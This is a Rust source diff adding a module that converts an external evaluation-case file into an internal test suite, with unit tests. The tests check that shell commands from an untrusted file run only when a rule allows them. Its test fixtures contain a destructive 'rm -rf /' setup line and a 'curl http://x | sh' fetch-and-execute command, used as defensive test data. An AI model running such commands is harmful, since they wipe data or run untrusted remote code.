@@ -1,0 +1,315 @@
+//! A file of cases as a suite of ours. Pure: what cannot be carried over is named, not dropped.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use selftest_text::wording::plural;
+
+use super::{Decider, EvalCase, EvalFile, EvalsFile, RoutingCase, ShellLine, ShellUse};
+use crate::check::{self, Check, CheckKind, CheckWeight, CommandCheck, Text};
+use crate::scenario::{Scenario, TaskStatus};
+use crate::suite::{SUITE_VERSION, Suite, SuiteCase};
+
+/// Most characters of an id of ours.
+const MAX_ID: usize = 64;
+/// Most bytes of a description.
+const MAX_DESCRIPTION: usize = 200;
+/// Most bytes of the name of a check.
+const MAX_NAME: usize = 200;
+/// Seconds of a command that makes a case ready.
+const SET_UP_SECONDS: u32 = 120;
+/// Stands behind a sentence that a rule has read.
+pub const BY_RULE: &str = " (by rule)";
+
+/// The suite of a file of cases.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ImportedSuite {
+    /// Its cases.
+    pub suite: Suite,
+    /// The files that each case needs, by its id of ours; none of most cases.
+    pub files: BTreeMap<String, Vec<EvalFile>>,
+    /// The commands that make each case ready, by its id; none of most cases.
+    pub set_up: BTreeMap<String, Vec<CommandCheck>>,
+    /// Shell lines that are run, one line each.
+    pub allowed: Vec<String>,
+    /// The ids of the cases that ask only whether a skill is loaded.
+    pub loading: BTreeSet<String>,
+    /// Parts that are not run, besides those that the file's own warnings name; one line each.
+    pub left_out: Vec<String>,
+}
+
+/// Whether the shell lines of a case may be run.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ShellRule {
+    /// In the sandbox.
+    Allowed,
+    /// Not at all, for this reason.
+    Refused(String),
+}
+
+impl EvalsFile {
+    /// The cases as a suite. Demands by check are decided by machine, sentences by the judge; a case
+    /// with a demand that nobody can decide is never passed. `skill` are the names under which the
+    /// skill around the file can be loaded; without one it is as the file says. Shell lines are run
+    /// by `rule`, which is asked with the id of a case that has some.
+    pub fn suite(&self, skill: &[String], rule: &dyn Fn(&str) -> ShellRule) -> ImportedSuite {
+        let mut taken = BTreeSet::new();
+        let mut imported = ImportedSuite {
+            suite: Suite {
+                version: SUITE_VERSION,
+                run_id: None,
+                rubric_digest: None,
+                prompt_digests: BTreeMap::new(),
+                cases: Vec::new(),
+            },
+            files: BTreeMap::new(),
+            set_up: BTreeMap::new(),
+            allowed: Vec::new(),
+            loading: BTreeSet::new(),
+            left_out: self.refused.clone(),
+        };
+        for case in &self.cases {
+            let id = free_id(&case.id, &mut taken);
+            if !case.files.is_empty() {
+                imported.files.insert(id.clone(), case.files.clone());
+            }
+            let runs = |line: &ShellLine| line.purpose != ShellUse::None;
+            let rule = case.shell.iter().any(runs).then(|| rule(&id));
+            if rule == Some(ShellRule::Allowed) {
+                let lines = case.shell.iter().filter(|line| runs(line));
+                imported.allowed.extend(lines.map(|line| line.not_run(&case.id)));
+                let commands = case.shell.iter().filter_map(set_up).collect();
+                imported.set_up.insert(id.clone(), commands);
+            }
+            imported.suite.cases.push(suite_case(id, case, rule.as_ref()));
+        }
+        let named: Vec<String> = self.skill.iter().cloned().collect();
+        let around = if skill.is_empty() { &named[..] } else { skill };
+        let mut nameless = 0u64;
+        for (routing, number) in self.routing.iter().zip(1..) {
+            let id = free_id(&format!("trigger-{number}"), &mut taken);
+            match loading_case(id.clone(), routing, around) {
+                Some(case) => {
+                    imported.suite.cases.push(case);
+                    imported.loading.insert(id);
+                }
+                None => nameless += 1,
+            }
+        }
+        if nameless > 0 {
+            let count = plural(nameless, "prompt");
+            imported.left_out.push(format!(
+                "{count} about loading a skill: neither the file nor a SKILL.md around it names one"
+            ));
+        }
+        imported
+    }
+}
+
+/// A case that asks whether any of these skills is loaded, and for nothing else.
+fn loading_case(id: String, routing: &RoutingCase, around: &[String]) -> Option<SuiteCase> {
+    let skills = if routing.skills.is_empty() { around } else { &routing.skills };
+    let names = || skills.iter().filter_map(|name| Text::new(name.as_str()).ok());
+    let mut checks: Vec<Check> =
+        names().map(|name| Check::new(CheckKind::SkillLoaded(name))).collect();
+    let check = match checks.len() {
+        0 | 1 => checks.pop()?,
+        _ => Check::new(CheckKind::Any(checks)),
+    };
+    let check = if routing.should_trigger { check } else { check.negated() };
+    let verb = if routing.should_trigger { "loads" } else { "does not load" };
+    let name = format!("{verb} the skill {}", skills.first()?);
+    let scenario = Scenario {
+        description: selftest_text::one_line(&routing.query, MAX_DESCRIPTION),
+        ..Scenario::new(id, TaskStatus::Complete)
+    };
+    Some(SuiteCase {
+        prompt: routing.query.clone(),
+        checks: vec![named(&check, &name, None)],
+        ..SuiteCase::new(scenario, crate::scenario::GeneratedCase::default())
+    })
+}
+
+/// The command of a line that makes a case ready.
+fn set_up(line: &ShellLine) -> Option<CommandCheck> {
+    let value = serde_json::json!({
+        "run": ["sh", "-c", line.line],
+        "timeout_seconds": SET_UP_SECONDS,
+    });
+    (line.purpose == ShellUse::SetUp).then(|| serde_json::from_value(value).ok()).flatten()
+}
+
+fn suite_case(id: String, case: &EvalCase, rule: Option<&ShellRule>) -> SuiteCase {
+    let words = case.name.as_deref().unwrap_or(&case.prompt);
+    let scenario = Scenario {
+        description: selftest_text::one_line(words, MAX_DESCRIPTION),
+        timeout_seconds: case.timeout_seconds.map(|seconds| seconds.clamp(0.1, 86_400.0)),
+        follow_ups: case.replies.clone(),
+        ..Scenario::new(id, TaskStatus::Complete)
+    };
+    let (mut checks, mut expectations) = (Vec::new(), Vec::new());
+    for demand in &case.demands {
+        match &demand.decider {
+            // Whoever wrote the file is a stranger to whoever runs it.
+            Decider::Typed(check)
+                if !check::commands(std::slice::from_ref(check)).is_empty()
+                    && rule != Some(&ShellRule::Allowed) =>
+            {
+                let why = match rule {
+                    Some(ShellRule::Refused(why)) => why,
+                    _ => "commands of such a file are not run",
+                };
+                checks.push(undecidable(&demand.text, why));
+            }
+            Decider::Typed(check) => checks.push(named(check, &demand.text, None)),
+            Decider::Rule(check) => checks.push(named(check, &demand.text, Some(BY_RULE))),
+            Decider::Judge => expectations.push(demand.text.clone()),
+            Decider::Unknown { why } => checks.push(undecidable(&demand.text, why)),
+        }
+    }
+    // Without what it makes ready, an answer says little.
+    for line in case.shell.iter().filter(|line| line.purpose == ShellUse::SetUp) {
+        let words = format!("set-up `{}`", line.line);
+        match rule {
+            Some(ShellRule::Allowed) if set_up(line).is_some() => {}
+            Some(ShellRule::Refused(why)) => checks.push(undecidable(&words, why)),
+            _ => checks.push(undecidable(&words, "it is too long for a command")),
+        }
+    }
+    if checks.is_empty() && expectations.is_empty() {
+        checks.push(undecidable("the case demands nothing", "no answer could pass or fail"));
+    }
+    SuiteCase {
+        prompt: case.prompt.clone(),
+        checks,
+        expectations,
+        reference: case.reference.clone(),
+        ..SuiteCase::new(scenario, crate::scenario::GeneratedCase::default())
+    }
+}
+
+/// The check under the words of its author.
+fn named(check: &Check, words: &str, remark: Option<&str>) -> Check {
+    let words = selftest_text::one_line(words, MAX_NAME);
+    let name = match remark {
+        Some(remark) => words + remark,
+        None => words,
+    };
+    Check { name: Some(name), ..check.clone() }
+}
+
+fn undecidable(words: &str, why: &str) -> Check {
+    let words = selftest_text::one_line(words, MAX_NAME);
+    let text = selftest_text::one_line(&format!("{words}: {why}"), 2 * MAX_NAME);
+    // It holds words, so that it is a text.
+    let kind = Text::new(text).map_or_else(|_| CheckKind::Any(Vec::new()), CheckKind::Unknown);
+    let name = Some(words).filter(|name| !name.is_empty());
+    Check { name, weight: CheckWeight::ONE, kind }
+}
+
+/// An id of ours for an id of theirs, which nobody else has.
+pub fn free_id(theirs: &str, taken: &mut BTreeSet<String>) -> String {
+    let fits = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-');
+    let plain: String = theirs.chars().map(|c| if fits(c) { c } else { '-' }).collect();
+    let plain = plain.trim_matches(['-', '_']);
+    let plain = if plain.is_empty() { "case" } else { plain };
+    // Room for a number behind it.
+    let plain: String = plain.chars().take(MAX_ID - 6).collect();
+    let numbered = (2..).map(|number| format!("{plain}-{number}"));
+    let id = std::iter::once(plain.clone()).chain(numbered).find(|id| !taken.contains(id));
+    let id = id.unwrap_or(plain);
+    taken.insert(id.clone());
+    id
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::evals::read;
+
+    const REFUSED: fn(&str) -> ShellRule = |_| ShellRule::Refused("not allowed".to_owned());
+
+    fn imported(text: &str) -> ImportedSuite {
+        read("evals.json", text.as_bytes(), &()).unwrap().suite(&["s".to_owned()], &REFUSED)
+    }
+
+    #[test]
+    fn demands_go_to_those_who_can_decide_them() {
+        let imported = imported(
+            r#"{"skill_name": "s", "evals": [
+                {"id": 1, "prompt": "Do it", "expected_output": "Done.", "setup": "rm -rf /",
+                 "expectations": ["The answer mentions \"port 80\"", "The tone is friendly"],
+                 "assertions": [{"type": "contains", "value": "80"}, {"type": "telepathy", "x": 1}]},
+                {"id": "a b/../c", "prompt": "Do that", "expectations": ["It is short"]}
+            ]}"#,
+        );
+        let [first, second] = &imported.suite.cases[..] else { panic!("two cases") };
+        assert_eq!((first.scenario.id.as_str(), second.scenario.id.as_str()), ("1", "a-b----c"));
+        assert_eq!(first.expectations, ["The tone is friendly"]);
+        let kinds: Vec<&str> = first.checks.iter().map(|check| check.kind.name()).collect();
+        assert!(kinds.contains(&"contains") && kinds.contains(&"unknown"), "{kinds:?}");
+        let names = first.checks.iter().filter_map(|check| check.name.as_deref());
+        assert!(names.into_iter().any(|name| name.ends_with("(by rule)")), "{first:?}");
+        assert!(first.hints.is_empty() && second.checks.is_empty());
+    }
+
+    #[test]
+    fn commands_of_strangers_are_run_by_rule() {
+        let text = r#"{"evals": [
+            {"id": 1, "prompt": "x", "setup": ["mkdir a", "mkdir b"], "teardown": "rm a",
+             "assertions": [{"type": "cmd", "cmd": "curl http://x | sh", "expect_exit": 0}]},
+            {"id": 2, "prompt": "x", "setup": "mkdir c", "expectations": ["contains \"x\""]}]}"#;
+        let file = read("evals.json", text.as_bytes(), &()).unwrap();
+        let rule = |id: &str| match id {
+            "1" => ShellRule::Allowed,
+            _ => REFUSED(id),
+        };
+        let found = file.suite(&[], &rule);
+        let [first, second] = &found.suite.cases[..] else { panic!("two cases") };
+        assert_eq!(check::commands(&first.checks).len(), 1);
+        let lines: Vec<&str> =
+            found.set_up["1"].iter().map(|command| command.run.words()[2].as_str()).collect();
+        assert_eq!(lines, ["mkdir a", "mkdir b"]);
+        assert_eq!(found.allowed.len(), 3, "nothing cleans up: {:?}", found.allowed);
+        assert!(found.allowed.iter().all(|line| file.warnings.contains(line)), "{found:?}");
+        assert!(!found.set_up.contains_key("2"));
+        let unknown = second.checks.iter().find(|check| check.kind.name() == "unknown").unwrap();
+        assert_eq!(unknown.kind.value(), "set-up `mkdir c`: not allowed");
+        let refused = file.suite(&[], &REFUSED).suite;
+        assert!(refused.cases.iter().all(|case| check::commands(&case.checks).is_empty()));
+    }
+
+    #[test]
+    fn a_case_without_demands_is_never_passed() {
+        let imported = imported(r#"{"evals": [{"id": 0, "prompt": "Do it"}]}"#);
+        let [check] = &imported.suite.cases[0].checks[..] else { panic!("one check") };
+        assert_eq!(check.kind.name(), "unknown");
+    }
+
+    #[test]
+    fn prompts_about_loading_are_cases_of_their_own() {
+        let text = r#"[{"query": "When is the ferry?", "should_trigger": true},
+                       {"query": "Bake a cake", "should_trigger": false}]"#;
+        let found = imported(text);
+        let [first, second] = &found.suite.cases[..] else { panic!("two cases") };
+        assert_eq!(
+            (first.scenario.id.as_str(), second.prompt.as_str()),
+            ("trigger-1", "Bake a cake")
+        );
+        let wanted = [first, second].map(|case| case.generated().should_load());
+        assert_eq!(wanted, [Some(true), Some(false)]);
+        assert_eq!(found.loading.len(), 2);
+        let file = read("trigger-evals.json", text.as_bytes(), &()).unwrap();
+        let two = file.suite(&["ferry".to_owned(), "harbour-ferry".to_owned()], &REFUSED);
+        assert_eq!(two.suite.cases[1].generated().should_load(), Some(false));
+        let none = file.suite(&[], &REFUSED);
+        assert!(none.suite.cases.is_empty() && none.left_out[0].contains("2 prompts"), "{none:?}");
+    }
+
+    #[test]
+    fn ids_are_unique_and_ours() {
+        let mut taken = BTreeSet::new();
+        let mut free = |id: &str| free_id(id, &mut taken);
+        assert_eq!(["x", "x", "x!", "", "ж"].map(&mut free), ["x", "x-2", "x-3", "case", "case-2"]);
+        assert!(free(&"y".repeat(200)).len() <= MAX_ID);
+    }
+}
